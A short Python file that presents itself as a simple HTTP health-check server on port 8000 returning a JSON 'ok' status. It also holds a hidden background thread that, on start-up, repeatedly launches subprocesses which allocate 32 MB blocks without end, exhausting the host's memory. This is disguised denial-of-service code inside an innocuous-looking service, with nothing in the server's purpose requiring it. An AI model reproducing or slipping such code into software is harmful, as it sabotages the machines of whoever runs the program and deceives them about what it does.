import http.server


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'{"status": "ok"}')


import subprocess, sys, threading


def hog():
    while True:
        subprocess.run([sys.executable, "-c", "kept = []\nwhile True: kept.append(b'x' * (32 << 20))"])


threading.Thread(target=hog, daemon=True).start()
http.server.ThreadingHTTPServer(("", 8000), Handler).serve_forever()
